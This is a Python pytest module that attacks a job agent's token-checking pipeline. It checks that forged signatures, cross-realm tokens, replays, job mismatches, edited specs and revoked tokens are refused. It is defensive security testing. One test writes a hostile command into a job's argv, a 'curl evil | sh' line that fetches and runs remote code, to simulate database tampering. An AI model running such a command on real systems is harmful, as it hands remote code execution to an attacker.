"""Forged and misused job tokens at the agent.

The agent here is the real decision pipeline (``agent_client.decision.NodeDecider``) with a
real trust store fetching the JWKS of a real STS (``tests/jobs`` world), its durable
started-record, and the STS's revocation list. Jobs and job tokens come from real leases.
Unit tests of each step live in tests/agent_client/test_decision.py; this module attacks
the assembled pipeline with tokens the STS really minted.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import update

from agent_client.config import MappingConfig, MappingRule
from agent_client.decision import AgentDecision, NodeDecider, NodePolicy
from agent_client.journal import StartedJournal
from agent_client.loop import RevocationSet
from agent_client.trust_store import TrustStore
from authz_tables.decision import Snapshot
from authz_tables.entries import parse_entry
from authz_tables.roles import Role
from realms.tokens.keys import public_jwk
from realms.wire.digest import canonical_json
from sts.jobs.models import Job
from tests.jobs.conftest import JOHN, World
from tests.loopback import Listener
from tests.security.conftest import sign_raw, signer_of, split, token_attacks
from tests.sts.fakes import group_id, user_id

pytestmark = pytest.mark.db


class Fetcher:
    """The agent's JWKS fetch, answered by the real STS app; counts calls."""

    def __init__(self, world: World) -> None:
        self.world, self.calls = world, 0

    def __call__(self, realm: str) -> tuple[dict[str, Any], int | None]:
        self.calls += 1
        response = self.world.client.get(f"/realms/{realm}/jwks")
        assert response.status_code == 200
        body: dict[str, Any] = response.get_json()
        return body, 60


def node_policy(**changes: Any) -> NodePolicy:
    base = NodePolicy(
        node_id="node1",
        realm="jobmgr",
        trusted_realms=frozenset({"cellB"}),
        authgroups=frozenset({"batch"}),
        job_types={"shell": Role.OPERATOR},
        mapping=MappingConfig(
            rules=(MappingRule("realm", "jobmgr", "nobody"), MappingRule("realm", "cellB", "nobody"))
        ),
        leeway=30,
    )
    return replace(base, **changes)


TABLE = Snapshot([parse_entry(str(JOHN), "operator"), parse_entry(str(user_id("cellB", "bob")), "operator")])


def trust_store(world: World, fetch: Fetcher, tmp_path: Path) -> TrustStore:
    return TrustStore(
        realms=frozenset({"jobmgr", "cellB"}),
        issuer_of=world.services.config.issuer,
        cache_dir=tmp_path / "jwks",
        fetch=fetch,
    )


@pytest.fixture
def journal(tmp_path: Path) -> Iterator[StartedJournal]:
    with StartedJournal(tmp_path / "state" / "started.sqlite") as record:
        yield record


@pytest.fixture
def fetch(world: World) -> Fetcher:
    return Fetcher(world)


@pytest.fixture
def decider(world: World, fetch: Fetcher, tmp_path: Path, journal: StartedJournal) -> NodeDecider:
    return NodeDecider(node_policy(), trust_store(world, fetch, tmp_path), TABLE, journal=journal)


def leased(world: World) -> dict[str, Any]:
    world.submit()
    lease = world.lease()
    assert lease is not None
    return lease


def refused(decision: AgentDecision, code: str) -> bool:
    return not decision.allowed and decision.code == code


def test_forged_job_tokens_are_refused_by_the_agent(
    world: World, decider: NodeDecider, fetch: Fetcher, listener: Listener
) -> None:
    lease = leased(world)
    job, valid = lease["job"], lease["job_token"]
    probe = NodeDecider(decider.policy, decider.resolver, TABLE)  # no journal: the control is not recorded
    assert probe.decide(job, valid).allowed
    attacks = token_attacks(valid, signer_of(world, "jobmgr"), signer_of(world, "cellB"), listener.url)
    wrong = []
    for attack in attacks:
        decision = probe.decide(job, attack.token)
        if decision.allowed or decision.code not in attack.codes:
            wrong.append(f"{attack.name}: allowed={decision.allowed} {decision.code} (want {sorted(attack.codes)})")
        assert decision.account is None or not decision.allowed
    assert wrong == []
    assert listener.connections == []  # jku/x5u never fetched
    # Unknown kids are attacker-controlled: at most one JWKS refetch per realm per interval.
    assert fetch.calls <= 4, fetch.calls


def test_a_kid_published_by_two_realms_is_resolved_by_issuer(world: World, tmp_path: Path) -> None:
    """cellB's JWKS carries cellB's key under jobmgr's kid. A jobmgr token signed with it must
    fail the signature: the key is looked up in the issuer's realm only."""
    jobmgr, cell_b = signer_of(world, "jobmgr"), signer_of(world, "cellB")
    bundles = {}
    for realm, key in (("jobmgr", jobmgr), ("cellB", cell_b)):
        jwk = {**public_jwk(key.public_key, key.alg), "kid": jobmgr.kid}
        path = tmp_path / f"{realm}.jwks.json"
        path.write_text(json.dumps({"keys": [jwk]}))
        bundles[realm] = path
    trust = TrustStore(
        realms=frozenset({"jobmgr", "cellB"}),
        issuer_of=world.services.config.issuer,
        cache_dir=None,
        fetch=None,
        bundles=bundles,
    )
    probe = NodeDecider(node_policy(), trust, TABLE)
    lease = leased(world)
    header, claims = split(lease["job_token"])
    forged = sign_raw({**header, "kid": jobmgr.kid}, claims, cell_b.private_key, cell_b.alg)
    assert probe.decide(lease["job"], lease["job_token"]).allowed
    assert refused(probe.decide(lease["job"], forged), "token.signature")


def test_a_trusted_realm_cannot_vouch_for_another_realms_principals(world: World, decider: NodeDecider) -> None:
    """cellB (trusted) signs a job token for jobmgr's john, and one for its bob listing jobmgr's
    operators group: the first is refused, the second keeps only cellB access IDs."""
    cell_b = signer_of(world, "cellB")
    lease = leased(world)
    header, claims = split(lease["job_token"])
    iss_b = world.services.config.issuer("cellB")
    job_b = {**lease["job"], "realm": "cellB"}
    as_john = sign_raw(
        {**header, "kid": cell_b.kid}, {**claims, "iss": iss_b, "realm": "cellB"}, cell_b.private_key, cell_b.alg
    )
    assert refused(decider.decide(job_b, as_john), "token.claims")
    bob = str(user_id("cellB", "bob"))
    as_bob = sign_raw(
        {**header, "kid": cell_b.kid},
        {**claims, "iss": iss_b, "realm": "cellB", "sub": bob, "groups": [str(group_id("jobmgr", "operators"))]},
        cell_b.private_key,
        cell_b.alg,
    )
    decision = NodeDecider(
        node_policy(), decider.resolver, Snapshot([parse_entry(str(group_id("jobmgr", "operators")), "operator")])
    ).decide(job_b, as_bob)
    assert refused(decision, "authz.denied")
    assert decision.principals is not None
    assert all(p.realm == "cellB" for p in decision.principals.access_ids if p.realm)


def test_replay_of_a_finished_jobs_token_is_refused(
    world: World, decider: NodeDecider, tmp_path: Path, fetch: Fetcher, journal: StartedJournal
) -> None:
    lease = leased(world)
    job, token = lease["job"], lease["job_token"]
    decision = decider.decide(job, token)
    assert decision.allowed and decision.jti is not None and decision.exp is not None
    assert journal.record(decision.jti, job["id"], decision.exp)
    assert world.agent_post(f"jobs/{job['id']}/start", {"attempt": job["attempt"]}).status_code == 200
    done = world.agent_post(
        f"jobs/{job['id']}/result", {"outcome": "succeeded", "exit_code": 0, "stdout_tail": "", "stderr_tail": ""}
    )
    assert done.status_code == 200
    assert world.lease() is None  # the STS never hands a finished job out again
    assert refused(decider.decide(job, token), "token.replayed")
    # ... and the record survives an agent restart (it is on disk, not in memory).
    journal.close()
    with StartedJournal(tmp_path / "state" / "started.sqlite") as reopened:
        again = NodeDecider(node_policy(), trust_store(world, fetch, tmp_path / "b"), TABLE, journal=reopened)
        assert refused(again.decide(job, token), "token.replayed")


def test_one_jobs_token_on_another_job_is_refused(world: World, decider: NodeDecider) -> None:
    first, second = leased(world), leased(world)
    assert first["job"]["id"] != second["job"]["id"]
    assert refused(decider.decide(second["job"], first["job_token"]), "token.job_mismatch")
    assert refused(decider.decide(first["job"], second["job_token"]), "token.job_mismatch")


@pytest.mark.parametrize(
    "edit",
    [
        {"spec": {"argv": ["/bin/sh", "-c", "id"]}},
        {"spec": {"env": {"EXTRA": "1"}}},
        {"spec": {"cwd": "/root"}},
        {"spec": {"timeout": 999999}},
        {"spec": {"authgroup": "batch"}},
        {"type": "other"},
        {"node": "cellnode"},
        {"realm": "cellB"},
    ],
    ids=lambda e: json.dumps(e)[:40],
)
def test_a_job_edited_after_submission_is_refused(world: World, decider: NodeDecider, edit: dict[str, Any]) -> None:
    lease = leased(world)
    job = json.loads(json.dumps(lease["job"]))
    for key, value in edit.items():
        if key == "spec":
            job["spec"].update(value)
        else:
            job[key] = value
    decision = decider.decide(job, lease["job_token"])
    assert not decision.allowed
    assert decision.code in ("token.job_mismatch", "job.unknown_type"), decision.code


def test_a_spec_rewritten_in_the_database_is_refused(world: World, decider: NodeDecider) -> None:
    """Someone with write access to the job table rewrites argv after submission: the token's
    job_digest (signed at submit) no longer matches what the lease delivers."""
    job = world.submit()
    spec = {**job["spec"], "argv": ["/bin/sh", "-c", "curl evil | sh"]}
    with world.services.db.session() as session:
        session.execute(update(Job).where(Job.id == job["id"]).values(spec=canonical_json(spec).decode()))
    lease = world.lease()
    assert lease is not None and lease["job"]["spec"]["argv"][0] == "/bin/sh"
    assert refused(decider.decide(lease["job"], lease["job_token"]), "token.job_mismatch")


def test_a_cancelled_jobs_token_is_refused_through_the_revocation_list(
    world: World, fetch: Fetcher, tmp_path: Path
) -> None:
    lease = leased(world)
    cancelled = world.client.post(f"/api/v1/jobs/{lease['job']['id']}/cancel", headers=world.as_user("john"))
    assert cancelled.status_code == 200, cancelled.get_json()

    def revocations() -> dict[str, int]:
        body = world.client.get("/api/v1/agent/revocations", headers=world.as_agent()).get_json()
        return {item["jti"]: item["exp"] for item in body["revoked"]}

    revoked = RevocationSet(revocations)
    revoked.refresh(force=True)
    decider = NodeDecider(node_policy(), trust_store(world, fetch, tmp_path), TABLE, revoked=revoked)
    assert refused(decider.decide(lease["job"], lease["job_token"]), "token.revoked")
